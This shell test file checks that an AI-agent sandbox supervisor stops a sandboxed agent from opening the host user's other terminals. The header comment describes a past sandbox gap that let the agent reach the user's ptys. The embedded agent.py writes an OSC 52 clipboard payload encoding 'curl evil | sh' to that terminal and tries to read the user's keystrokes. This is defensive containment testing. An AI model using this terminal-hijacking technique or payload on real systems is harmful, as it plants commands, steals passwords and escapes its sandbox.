#!/bin/sh
# Attack on the user's other terminals, as root and as an unprivileged user, from a run that
# has no terminal of its own (started by a script, an editor, CI: `run` gives the agent a pty
# only when it has one to relay). A run with a pty mounts a devpts instance of the sandbox's
# own on /dev/pts; one without kept the host's, read-only — which stops nothing on a device:
# the agent opened /dev/pts/N of every terminal of its uid (the person's shells in other
# windows, tmux panes, ssh sessions). Writing there reaches the person's screen past the
# relay's filter (OSC 52 sets their clipboard, spoofed text, queries whose answers the
# terminal types into the person's shell); reading there takes their keystrokes (a password
# typed at a sudo prompt) away from their shell. TIOCSTI is refused by the filter, the rest
# was not. What must hold: a terminal the host opened is not there to be opened in the
# sandbox, nothing reaches it, and a /dev/ptmx still opens (a pty of the sandbox's own, for
# the programs that make one: script, expect, tmux). Prints TAP.
set -u
# shellcheck source=tests/lib/run_common.sh
. "$(dirname "$0")/../lib/run_common.sh"
# shellcheck source=tests/lib/confine_common.sh
. "$(dirname "$0")/../lib/confine_common.sh"

PLAN=8
run_needs_root $PLAN
run_needs_tools $PLAN setpriv python3
if [ ! -d /dev/pts ] || [ ! -c /dev/ptmx ]; then
	run_skip_all $PLAN "no /dev/pts and /dev/ptmx here"
fi
tap_plan $PLAN

# Debian's python3, not a per-user shim on root's PATH that nobody cannot run.
PY=/usr/bin/python3
[ -x "$PY" ] || PY=$(command -v python3)
attack_setup
cp "$SUPERVISOR" "$U/cloister-supervisor"
# The person's terminal: a pty held open on the host while COMMAND runs (@PTS@ in it becomes
# the terminal's name); then what reached the terminal's screen, and what is left of the keys
# typed into it before the run (the agent may have read them away).
cat >"$U/term.py" <<'EOF'
import os, pty, subprocess, sys
m, s = pty.openpty()
name = os.ttyname(s)
os.write(m, b"typed-by-the-person\n")
argv = [a.replace("@PTS@", name) for a in sys.argv[1:]]
subprocess.run(argv, stdin=subprocess.DEVNULL)
os.set_blocking(m, False)
try:
    screen = os.read(m, 4096)
except BlockingIOError:
    screen = b""
os.set_blocking(s, False)
try:
    keys = os.read(s, 4096)
except BlockingIOError:
    keys = b""
print("screen: %s, keys: %s" % ("the agent's text" if b"agent-on-your-screen" in screen else "clean",
      "left" if b"typed-by-the-person" in keys else "taken"), file=sys.stderr)
EOF
# The agent: the person's terminal by its name, written and read; and a pty of its own.
cat >"$U/agent.py" <<'EOF'
import os, sys
try:
    fd = os.open(sys.argv[1], os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    os.write(fd, b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07agent-on-your-screen\n")
    try:
        got = os.read(fd, 4096)
    except BlockingIOError:
        got = b""
    print("opened, read %d bytes" % len(got))
except OSError as e:
    print("open: " + e.strerror)
try:
    import fcntl, struct
    m = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
    n = struct.unpack("I", fcntl.ioctl(m, 0x80045430, b"\0" * 4))[0]  # TIOCGPTN
    print("own pty: /dev/pts/%d%s" % (n, " listed" if os.path.exists("/dev/pts/%d" % n) else ""))
except OSError as e:
    print("own pty: " + e.strerror)
EOF
chown -R "$NOBODY:$NOBODY" "$U"
chmod 644 "$U/term.py" "$U/agent.py"

for who in root nobody; do
	if [ "$who" = root ]; then
		(cd "$U" && timeout -k 5 "$SV_TIMEOUT" "$PY" "$U/term.py" "$SUPERVISOR" run \
			--config-dir "$CFG" --ask none -- "$PY" "$U/agent.py" @PTS@) >"$OUT" 2>"$ERR"
	else
		(cd "$U" && timeout -k 5 "$SV_TIMEOUT" setpriv --reuid=$NOBODY --regid=$NOBODY \
			--clear-groups env HOME="$U/home" XDG_STATE_HOME="$U/state" "$PY" "$U/term.py" \
			"$U/cloister-supervisor" run --config-dir "$U/cfg" --ask none -- \
			"$PY" "$U/agent.py" @PTS@) >"$OUT" 2>"$ERR"
	fi
	rc=$?
	out=$(cat "$OUT")
	term=$(grep '^screen: ' "$ERR")
	tap_ok "$(test "$rc" -eq 0 && test -n "$term" && echo 0 || echo 1)" "$who: the run ended" "$(diag)"
	case $out in opened*) st=1 ;; "open: "*) st=0 ;; *) st=1 ;; esac
	tap_ok $st "$who: the person's terminal does not open in the sandbox ($(printf '%s\n' "$out" | head -1))"
	case $term in "screen: clean, keys: left") st=0 ;; *) st=1 ;; esac
	tap_ok $st "$who: nothing reached the person's screen, their keys are theirs ($term)"
	case $out in *"own pty: /dev/pts/"[0-9]*" listed") st=0 ;; *) st=1 ;; esac
	tap_ok $st "$who: /dev/ptmx opens a pty of the sandbox's own ($(printf '%s\n' "$out" | tail -1))"
done

tap_done
